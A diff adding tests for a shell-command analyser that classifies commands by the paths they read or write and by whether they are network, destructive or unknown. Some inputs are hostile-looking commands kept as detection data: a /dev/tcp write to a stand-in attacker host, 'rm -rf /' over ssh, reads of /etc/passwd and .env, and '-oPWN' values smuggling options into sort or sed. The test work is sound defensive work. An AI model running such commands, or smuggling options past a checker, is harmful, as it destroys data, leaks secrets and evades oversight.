@@ -1,0 +1,197 @@
+import { describe, expect, test } from "vitest";
+import { analyse, classOf, firstOf, pathsOf } from "./analysed.ts";
+
+describe("what a command reads", () => {
+  test.each([
+    ["cat a.txt", ["/ws/app/a.txt"]],
+    ["cat < a.txt", ["/ws/app/a.txt"]],
+    ["cat ../x/y ~/z /etc/passwd", ["/ws/x/y", "/home/dev/z", "/etc/passwd"]],
+    ["grep -rn foo src", ["/ws/app/src/**"]],
+    ["grep -f patterns a", ["/ws/app/patterns", "/ws/app/a"]],
+    ["ls", ["/ws/app/**"]],
+    ["wc -l src/*.ts", ["/ws/app/src/**"]],
+    ["cat src/{a,b}.ts", ["/ws/app/src/a.ts", "/ws/app/src/b.ts"]],
+    ['for f in a.ts lib/*.js; do cat "$f"; done', ["/ws/app/a.ts", "/ws/app/lib/**"]],
+    ["f=docs/x.md; cat $f", ["/ws/app/docs/x.md"]],
+    ["cat $x", ["/**"]],
+    ['cat "src/$x"', ["/**"]],
+    ["find src lib -name a", ["/ws/app/src/**", "/ws/app/lib/**"]],
+    ["find src -name a -exec cat {} +", ["/ws/app/src/**"]],
+    ["ls | xargs -0 cat", ["/ws/app/**", "/**"]],
+    ["git show HEAD:src/a.ts", ["/ws/app/HEAD:src/a.ts", "/ws/app/src/a.ts"]],
+    ["sed -n 'r other' f", ["/ws/app/f", "/ws/app/other"]],
+    ["[ -f a ] && [[ -r b ]]", ["/ws/app/a", "/ws/app/b"]],
+    ["tar tf a.tar", ["/ws/app/a.tar"]],
+    ["diff <(sort a) b", ["/ws/app/b", "/ws/app/a"]],
+    ["cat /dev/null - < /dev/stdin", []],
+    ["bash -c 'cd sub && cat a'", ["/ws/app/sub/a"]],
+  ])("%s", (text, reads) => expect(pathsOf(analyse(text).reads)).toEqual(reads));
+});
+
+describe("what a command writes, and the class that it has for it", () => {
+  test.each([
+    ["echo x > a", "workspace-write", ["/ws/app/a"]],
+    ["echo x > /etc/a", "outside-write", ["/etc/a"]],
+    ["echo x > ../a", "outside-write", ["/ws/a"]],
+    ["echo x > ../app2", "outside-write", ["/ws/app2"]],
+    ['echo x > "$y"', "unknown", ["/**"]],
+    ["ls > /dev/null 2>&1", "read-only", []],
+    ["sort -o out in", "workspace-write", ["/ws/app/out"]],
+    ["cp a b", "workspace-write", ["/ws/app/b"]],
+    ["sed -i s/a/b/ f", "workspace-write", ["/ws/app/f"]],
+    ["sed 'w out' f", "workspace-write", ["/ws/app/out"]],
+    ["cd /tmp && touch a", "outside-write", ["/tmp/a"]],
+    ["for i in 1; do echo $i; done > out", "workspace-write", ["/ws/app/out"]],
+    ["tar xf a.tar -C sub", "workspace-write", ["/ws/app/sub/**"]],
+    ["find . -fprint out", "workspace-write", ["/ws/app/out"]],
+  ])("%s", (text, found, writes) => {
+    const report = analyse(text);
+    expect([report.class, pathsOf(report.writes)]).toEqual([found, writes]);
+  });
+});
+
+describe("where a command runs", () => {
+  test("a cd holds for what it is joined to, and may have failed for what follows", () => {
+    const folders = (text: string): unknown => analyse(text).commands.map(({ folders: its }) => its.map(({ path }) => path));
+    expect(folders("cd src && ls")).toEqual([["/ws/app"], ["/ws/app/src"]]);
+    expect(folders("cd src; ls")).toEqual([["/ws/app"], ["/ws/app", "/ws/app/src"]]);
+    expect(folders("(cd src && ls); pwd")).toEqual([["/ws/app"], ["/ws/app/src"], ["/ws/app"]]);
+    expect(folders("cd src | ls; pwd")).toEqual([["/ws/app"], ["/ws/app"], ["/ws/app"]]);
+    expect(folders("cd && ls")).toEqual([["/ws/app"], ["/home/dev"]]);
+    expect(folders("git -C sub log")).toEqual([["/ws/app/sub"]]);
+    expect(folders("env -C sub ls")).toEqual([["/ws/app/sub"]]);
+  });
+
+  test("in a loop, or led by what is not known, it may be anywhere", () => {
+    for (const text of ["for d in a b; do cd $d; ls; cd ..; done", "cd $x && ls"])
+      expect(pathsOf(analyse(text).commands.at(1)?.folders ?? [])).toContain("/**");
+  });
+
+  test("a way up from where a cd led is crooked", () => {
+    expect(analyse("cd link && cat ../a").reads.map(({ path, crooked, climbs }) => ({ path, crooked, climbs }))).toEqual([
+      { path: "/ws/app/a", crooked: true, climbs: true },
+    ]);
+    expect(analyse("cat link/../a").reads[0]?.crooked).toBe(true);
+    expect(analyse("cat ../a").reads.map(({ crooked, climbs }) => [crooked, climbs])).toEqual([[false, true]]);
+  });
+});
+
+describe("what a rule may hold on to", () => {
+  test("wrappers are counted off", () => {
+    expect(firstOf("timeout 5 nice -n 3 env git log")).toMatchObject({
+      program: "git",
+      wrapped: 6,
+      class: "read-only",
+      plain: true,
+      words: ["timeout", "5", "nice", "-n", "3", "env", "git", "log"],
+    });
+    expect(firstOf("LC_ALL=C sort a")).toMatchObject({ program: "sort", class: "read-only", plain: false, text: "LC_ALL=C sort a" });
+    expect(firstOf("env LC_ALL=C sort a")).toMatchObject({ class: "read-only", plain: false });
+    expect(firstOf("sudo ls")).toMatchObject({ program: "ls", wrapped: 1, class: "outside-write", credentials: true });
+  });
+
+  test.each([
+    ["ls -la", true],
+    ["ls 2>/dev/null", true],
+    ["ls 2>&1", true],
+    ["npm test", true],
+    ["X=1 npm test", false],
+    ["npm test > out", false],
+    ["npm test < in", false],
+    ["npm test &", false],
+    ["npm run $x", false],
+    ["npm run *", false],
+    ["npm() { x; }; npm test", false],
+    ["PATH=.; npm test", false],
+    ["npm test\u200b", false],
+  ])("%j is plain: %s", (text, plain) => expect(analyse(text).commands.at(-1)?.plain).toBe(plain));
+
+  test("the commands of a text that a shell is given stand among the others, and it answers for them", () => {
+    const report = analyse("bash -c 'ls; touch x'");
+    expect(report.commands.map(({ text, quoted, class: its, pos, end }) => ({ text, quoted, its, pos, end }))).toEqual([
+      { text: "bash -c 'ls; touch x'", quoted: false, its: "workspace-write", pos: 0, end: 21 },
+      { text: "ls", quoted: true, its: "read-only", pos: 9, end: 11 },
+      { text: "touch x", quoted: true, its: "workspace-write", pos: 13, end: 20 },
+    ]);
+  });
+
+  test("what launchers may start is read in every way", () => {
+    expect(analyse("xargs -n 1 rm -rf").launched).toContainEqual(["rm", "-rf"]);
+    expect(analyse("find . -exec rm {} +").launched).toContainEqual(["rm", "{}", "+"]);
+    expect(analyse("ssh host 'rm -rf /'").launched).toContainEqual(["rm", "-rf", "/"]);
+    expect(analyse("bash <<'EOF'\nrm x\nEOF").launched).toContainEqual(["rm", "x"]);
+    expect(analyse("eval 'rm' x").launched).toContainEqual(["rm", "x"]);
+  });
+
+  test("a program that is known only once it runs hides", () => {
+    for (const text of ["$x", "$(which ls)", "echo ls | bash", "alias a=b", "source x", "timeout 5 $x", "xargs -I{} {}"])
+      expect([text, analyse(text).hidden]).toEqual([text, true]);
+    for (const text of ["ls", "command -v $x", "timeout 5 cat $x", "cat $x | grep a"]) expect([text, analyse(text).hidden]).toEqual([text, false]);
+  });
+
+  test("every path that a word may name is mentioned", () => {
+    const mentions = (text: string): readonly string[] => analyse(text).mentions.map(({ path }) => path);
+    expect(mentions("foo --config=a/b @c d=e file:///f x:g")).toEqual(expect.arrayContaining(["/ws/app/a/b", "/ws/app/c", "/ws/app/e", "/f", "/ws/app/g"]));
+    expect(mentions("bash -c 'cat .env'")).toContain("/ws/app/.env");
+    expect(mentions("for f in .env; do cat $f; done")).toContain("/ws/app/.env");
+  });
+});
+
+describe("what else a report says", () => {
+  test("hosts", () => {
+    expect(analyse("curl https://Example.com/a && ssh me@host.example. ls").hosts).toEqual(["example.com", "host.example"]);
+    expect(analyse("echo > /dev/tcp/evil.example/80")).toMatchObject({ class: "network", hosts: ["evil.example"] });
+  });
+
+  test("what destroys, whatever it does besides", () => {
+    expect(firstOf("git push --force")).toMatchObject({ class: "destructive", destructive: true, hosts: ["*"] });
+    expect(firstOf("unlistedtool x").destructive).toBe(false);
+    expect(firstOf("/opt/bin/rm x")).toMatchObject({ class: "destructive", destructive: true });
+    expect(firstOf("find . -exec rm {} +").destructive).toBe(true);
+  });
+
+  test("what git obeys", () => {
+    expect([firstOf("git log").obeys, firstOf("ls").obeys]).toEqual(["repository", "nothing"]);
+  });
+
+  test("why, and where", () => {
+    const { unjudged, why } = analyse("ls && mytool --x");
+    expect(unjudged).toEqual([{ why: "what mytool does is not known", pos: 6, end: 12 }]);
+    expect(why).toEqual(unjudged);
+  });
+
+  test("places in texts that are quoted so that they cannot be found again are those of the whole word", () => {
+    const text = 'bash -c "touch \\"a\\""';
+    const [, inner] = analyse(text).commands;
+    expect(inner).toMatchObject({ pos: 8, end: text.length, words: ["touch", "a"] });
+    expect(analyse("echo `echo \\`touch x\\``").commands.map(({ words }) => words[0])).toEqual(["echo", "echo", "touch"]);
+  });
+});
+
+describe("variables", () => {
+  test.each([
+    ["x=a; sort $x", "read-only"],
+    ["x=-oPWN; sort $x", "workspace-write"],
+    ["x=a; sort ${x}", "read-only"],
+    ["[ -f b ] && x=-o; sort f $x g", "workspace-write"],
+    ["for x in a b; do sort $x; done", "read-only"],
+    ["for x in a -oPWN; do sort $x; done", "workspace-write"],
+    ["for x in 1 2 3; do echo $((x * 2)); done", "read-only"],
+    ["i=0; while [ $i -lt 3 ]; do echo $i; i=$((i + 1)); done", "read-only"],
+    ["for ((i = 0; i < 3; i++)); do echo $i; done", "read-only"],
+    ["x=$(cat f); echo $((x))", "unknown"],
+    ["read -r x; sort $x", "unknown"],
+    ['read -r x; sort -- "$x"', "read-only"],
+    ['for f in *; do sort "./$f"; done', "read-only"],
+    ['for f in src/*; do sort "$f"; done', "read-only"],
+    ['for f in *; do sort "$f"; done', "unknown"],
+    ["x=$x-a; echo $x", "read-only"],
+    ["x='a b'; sort $x", "unknown"],
+    ["HTTP_PROXY=x; ls", "unknown"],
+    ["http_proxy=x; ls", "unknown"],
+    ["x+=a; ls", "read-only"],
+    ['a=(x y); echo ${a[0]} ${#a[@]} "${a[@]}"', "read-only"],
+    ["sed $x wPWN", "unknown"],
+    ["x=p; false && x=q; sed -n $x f", "read-only"],
+  ])("%s is %s", (text, found) => expect(classOf(text)).toBe(found));
+});
